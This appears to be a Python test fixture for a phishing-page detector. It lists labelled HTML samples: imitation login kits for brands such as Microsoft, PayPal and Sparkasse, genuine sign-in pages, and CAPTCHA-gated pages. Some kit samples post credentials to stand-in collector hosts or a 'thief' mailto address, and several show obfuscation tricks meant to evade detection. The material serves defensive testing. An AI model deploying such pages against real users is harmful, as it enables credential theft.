"""Pages written for the tests: kits that imitate, innocent pages, and pages that cannot be seen."""

from __future__ import annotations

import base64
from dataclasses import dataclass


@dataclass(frozen=True)
class LandingPage:
    """A page and what it is: ``kit``, ``innocent`` or ``unseen``."""

    name: str
    kind: str
    url: str
    html: str


FORM = (
    "<form method=post action='{action}'><input name=email type=email placeholder=E-mail>"
    "<input name=pass type=password><button>Sign in</button></form>"
)


def _page(title: str, body: str, head: str = "") -> str:
    return f"<!doctype html><html><head><title>{title}</title>{head}</head><body>{body}</body></html>"


def _kits() -> list[LandingPage]:
    pages = []
    titles = {
        "Microsoft": "Sign in to your Microsoft account",
        "Office365": "Office 365 | Sign in",
        "Google": "Google Account",
        "PayPal": "PayPal: Log in",
        "DocuSign": "DocuSign - Review document",
        "Dropbox": "Dropbox - Log in to view",
        "Netflix": "Netflix",
        "Sparkasse": "Sparkasse: Anmeldung",
        "Rakuten": "Rakuten ログイン",
        "Facebook": "Log in to Facebook",
        "Amazon": "Amazon Sign-In",
        "DHL": "DHL",
        "Wells Fargo": "Wells Fargo Sign On to View Your Accounts",
        "Coinbase": "Coinbase - Sign In",
        "LinkedIn": "LinkedIn Login, Sign in | LinkedIn",
    }
    for name, title in titles.items():
        slug = name.lower().replace(" ", "")
        pages.append(
            LandingPage(
                f"{name}, plain", "kit", f"https://{slug}-files.example/a", _page(title, FORM.format(action=""))
            )
        )
    hidden = base64.b64encode(FORM.format(action="x.php").encode() * 4).decode()
    hosted = "https://share-doc.pages.dev/view"
    pages += [
        LandingPage(
            "sent elsewhere", "kit", hosted, _page("Outlook", FORM.format(action="https://collector.example/p.php"))
        ),
        LandingPage("sent by mail", "kit", hosted, _page("PayPal", FORM.format(action="mailto:thief@mail.example"))),
        LandingPage(
            "decoded by a script",
            "kit",
            "https://invoice.example/",
            _page("Shared file", f"<input name=email><script>document.write(atob('{hidden}'))</script>"),
        ),
        LandingPage(
            "escaped script",
            "kit",
            "https://invoice.example/",
            _page(
                "Microsoft",
                "<input placeholder='Email address'><script>document.write(unescape('" + "%3C%66" * 80 + "'))</script>",
            ),
        ),
        LandingPage(
            "field made by a script",
            "kit",
            "https://x.example/",
            _page(
                "Adobe: sign in to view",
                "<div id=f></div><script>var i=document.createElement('input');i.type='password';"
                "f.appendChild(i)</script><p>Sign in with your e-mail account to open the shared document.</p>",
            ),
        ),
        LandingPage(
            "packed script",
            "kit",
            "https://x.example/",
            _page("Docs", "<input name=login><script>eval(function(p,a,c,k,e,d){return p}('x',1,1,''))</script>"),
        ),
        LandingPage(
            "masked text field",
            "kit",
            "https://x.example/",
            _page("iCloud", "<form><input name=a><input name=b style='-webkit-text-security:disc'></form>"),
        ),
        LandingPage(
            "text field named like a password",
            "kit",
            "https://x.example/",
            _page("Instagram • Login", "<form><input name=username><input name=passwd type=text></form>"),
        ),
        LandingPage(
            "borrowed icon",
            "kit",
            "https://x.example/",
            _page(
                "Sign in",
                FORM.format(action=""),
                "<link rel='shortcut icon' href='https://www.microsoft.com/favicon.ico'>",
            ),
        ),
        LandingPage(
            "borrowed logo",
            "kit",
            "https://x.example/",
            _page("Sign in", "<img class=logo src='https://www.paypalobjects.com/logo.svg'>" + FORM.format(action="")),
        ),
        LandingPage(
            "logo by its name",
            "kit",
            "https://x.example/",
            _page("Sign in", "<img src=/i/logo.png alt='Microsoft logo'>" + FORM.format(action="")),
        ),
        LandingPage(
            "heading", "kit", "https://x.example/", _page("Sign in", "<h1>WeTransfer</h1>" + FORM.format(action=""))
        ),
        LandingPage(
            "free hosting, no name",
            "kit",
            "https://mailbox-upgrade.weebly.com/",
            _page("Mailbox upgrade", "<p>Your mailbox is full. Sign in to go on.</p>" + FORM.format(action="")),
        ),
        LandingPage("numeric host", "kit", "http://198.51.100.20/", _page("Webmail", FORM.format(action=""))),
        LandingPage(
            "site name in the metadata",
            "kit",
            "https://x.example/",
            _page("Anmelden", FORM.format(action=""), "<meta property='og:site_name' content='Commerzbank'>"),
        ),
    ]
    return pages


def _innocent() -> list[LandingPage]:
    own = {
        "https://login.microsoftonline.com/common": "Sign in to your Microsoft account",
        "https://accounts.google.com/v3/signin": "Google Account",
        "https://www.paypal.com/signin": "Log in to your PayPal account",
        "https://www.amazon.com/ap/signin": "Amazon Sign-In",
        "https://www.facebook.com/login": "Log in to Facebook",
        "https://www.netflix.com/login": "Netflix",
        "https://account.docusign.com/": "DocuSign Login",
        "https://www.dropbox.com/login": "Login - Dropbox",
    }
    pages = [
        LandingPage(f"{url}, its own", "innocent", url, _page(title, FORM.format(action="")))
        for url, title in own.items()
    ]
    shops = {
        "https://shop.example/account": "My account - Nordic Shoes",
        "https://forum.example/login": "Log in - Gardening forum",
        "https://library.example/ucp": "City library: your loans",
        "https://uni.example/idp": "University sign-in",
        "https://bank.example/": "Volksbank Musterstadt - Anmeldung",
        "https://clinic.example/portal": "Patient portal",
        "https://intranet.contoso.example/": "Contoso: Microsoft 365 sign-in",
        "https://project.example/users/sign_in": "Sign in · Tickets",
        "https://news.example/abo": "Anmelden | Tageszeitung",
        "https://hotel.example/booking": "Your stay - Sign in",
    }
    pages += [
        LandingPage(title, "innocent", url, _page(title, FORM.format(action="/session")))
        for url, title in shops.items()
    ]
    text = "<p>" + "Ordinary words about ordinary things. " * 10 + "</p>"
    pages += [
        LandingPage(
            "buttons of others",
            "innocent",
            "https://app.example/login",
            _page(
                "Log in to Acme Tasks",
                FORM.format(action="") + "<button>Sign in with Google</button><button>Continue with Microsoft</button>",
            ),
        ),
        LandingPage(
            "heading with others",
            "innocent",
            "https://app.example/login",
            _page("Acme", "<h2>Sign in with Google</h2>" + FORM.format(action="")),
        ),
        LandingPage(
            "article about a name", "innocent", "https://blog.example/p", _page("How PayPal fraud works", text)
        ),
        LandingPage(
            "shop that takes a name's payments",
            "innocent",
            "https://shop.example/cart",
            _page("Cart", text + "<img alt='PayPal' src=/pay/paypal.svg>" + FORM.format(action="/login")),
        ),
        LandingPage("newsletter", "innocent", "https://news.example/1", _page("Letter 7", text)),
        LandingPage(
            "search form",
            "innocent",
            "https://x.example/",
            _page("Search", text + "<form action=https://google.com/search><input name=q></form>"),
        ),
        LandingPage(
            "contact form",
            "innocent",
            "https://x.example/c",
            _page("Contact", text + "<form><input name=email><textarea></textarea></form>"),
        ),
        LandingPage(
            "application with text",
            "innocent",
            "https://x.example/",
            _page("App", text + "<script src=/a.js></script>"),
        ),
        LandingPage(
            "plain file",
            "innocent",
            "https://x.example/r.txt",
            "just text, more than sixty letters of it, so that there is something to see",
        ),
        LandingPage("empty", "innocent", "https://x.example/", ""),
        LandingPage(
            "nonsense", "innocent", "https://x.example/", "<<<>>><input><form></form></input>" * 5 + "\x00\ufffd"
        ),
        LandingPage(
            "analytics with packed letters",
            "innocent",
            "https://x.example/",
            _page("News", text + "<script>String.fromCharCode(1,2,3)</script>"),
        ),
        LandingPage(
            "its own single sign-on",
            "innocent",
            "https://app.example/login",
            _page("App", FORM.format(action="https://auth.app.example/session")),
        ),
    ]
    return pages


def _unseen() -> list[LandingPage]:
    return [
        LandingPage("reCAPTCHA", "unseen", "https://x.example/", _page("", "<div class='g-recaptcha'></div>")),
        LandingPage(
            "hCaptcha",
            "unseen",
            "https://x.example/",
            _page("Check", "<script src=https://js.hcaptcha.com/1/api.js></script>"),
        ),
        LandingPage("Turnstile", "unseen", "https://x.example/", _page("One moment", "<div class=cf-turnstile></div>")),
        LandingPage(
            "challenge", "unseen", "https://x.example/", _page("Just a moment...", "<p>Checking your browser</p>")
        ),
        LandingPage("press and hold", "unseen", "https://x.example/", _page("Human", "<p>Press & Hold to confirm</p>")),
        LandingPage(
            "scripts only",
            "unseen",
            "https://x.example/",
            _page("", "<div id=root></div><script src=/main.js></script>"),
        ),
        LandingPage("inline scripts only", "unseen", "https://x.example/", _page("", "<script>fetch('/x')</script>")),
        LandingPage(
            "noscript",
            "unseen",
            "https://x.example/",
            _page("", "<noscript>Turn on JavaScript</noscript><script>1</script>"),
        ),
    ]


PAGES = [*_kits(), *_innocent(), *_unseen()]
